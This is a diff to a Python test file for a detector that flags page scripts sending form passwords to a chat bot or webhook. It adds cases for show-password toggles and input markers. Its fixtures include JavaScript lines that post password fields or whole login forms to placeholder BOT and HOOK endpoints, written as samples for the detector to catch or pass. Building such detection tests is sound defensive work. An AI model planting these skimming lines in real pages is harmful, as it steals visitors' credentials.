@@ -125,6 +125,8 @@ SHOP = "<form><label>카드<input id=c name=card><input name=cvv></label><input 
 SIGN_IN = "<form id=f><input name=mail><input id=haslo name=haslo type=password></form>"
 CALLBACK = "<form id=cb><input name=who><input name=phone type=tel></form>"
 WHOLE = "f.onsubmit=e=>{e.preventDefault();fetch('BOT',{method:'POST',body:new FormData(f)})}"
+EYE = "eye.onclick=()=>{const i=document.getElementById('haslo');i.type=i.type=='password'?'text':'password'}"
+MARK = "document.querySelectorAll('input').forEach(i=>i.oninput=()=>i.classList.toggle('ok',i.checkValidity()))"
 LETTERS = "function go(){fetch('BOT?text='+f.haslo.value);return false}"
 
 
@@ -143,6 +145,8 @@ LETTERS = "function go(){fetch('BOT?text='+f.haslo.value);return false}"
         (WHOLE.replace("BOT", BOT), SIGN_IN),
         (LETTERS.replace("BOT", BOT), SIGN_IN + CALLBACK),
         (LETTERS.replace("BOT", HOOK).replace("f.haslo", "$('#haslo')"), SIGN_IN),
+        (f"{EYE};{LETTERS.replace('BOT', BOT)}", SIGN_IN + CALLBACK),
+        (f"let i=document.getElementById('haslo');i.type='text';fetch('{BOT}?text='+i.value)", SIGN_IN),
     ],
 )
 def test_secrets_that_go_to_a_chat(script: str, page: str) -> None:
@@ -170,10 +174,13 @@ def test_secrets_that_go_to_a_chat(script: str, page: str) -> None:
         (f"fetch(`${{API}}/login`,{{body:f.haslo.value}});window.onerror=m=>fetch('{HOOK}',{{body:m}})", SIGN_IN),
         ("fetch('https://example.com/api/webhooks/',{body:f.haslo.value})", CALLBACK),
         ("fetch('https://example.com/bot/answer?q='+f.haslo.value)", SIGN_IN),
+        (f"{EYE};fetch('{BOT}?text='+cb.who.value)", CALLBACK + SIGN_IN),
+        (f"{EYE.replace('i.type=', 'i.setAttribute(`type`,')};fetch('{BOT}?text='+cb.who.value)", CALLBACK + SIGN_IN),
+        (f"fetch('{BOT}?text='+f.who.value);{MARK}", CALLBACK + SHOP),
     ],
 )
 def test_messages_without_a_secret(script: str, page: str) -> None:
-    """Orders, calls back, reports of errors, and news of a visitor whose password goes where it belongs."""
+    """Orders, calls back, reports of errors, passwords that are shown, and those that go where they belong."""
     assert found(script, page) == []
 
 
